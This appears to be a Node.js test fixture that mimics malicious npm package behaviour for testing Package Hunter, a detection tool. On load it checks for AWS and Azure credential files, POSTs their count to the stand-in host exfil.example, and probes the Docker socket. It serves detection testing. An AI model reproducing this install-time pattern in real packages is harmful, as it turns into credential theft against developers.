// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const fs = require("fs");
const http = require("http");
const https = require("https");
const os = require("os");
const path = require("path");

const home = (...parts) => path.join(os.homedir(), ...parts);
const known = [".aws/credentials", ".azure/msal_token_cache.json"].filter((name) => fs.existsSync(home(name)));
const request = https.request({ hostname: "exfil.example", path: "/u", method: "POST" });
request.on("error", () => {});
request.end(JSON.stringify({ version: "1.0.0", providers: known.length }));

const ask = http.request({ socketPath: "/var/run/docker.sock", path: "/version", method: "GET" }, (res) => res.resume());
ask.on("error", () => {});
ask.end();

const own = home(".cache", "setup-bun-env", "unpacked");
fs.mkdirSync(own, { recursive: true });
fs.writeFileSync(path.join(own, "file"), "harmless simulation\n");
fs.rmSync(own, { recursive: true, force: true });
setTimeout(() => {}, 2000);
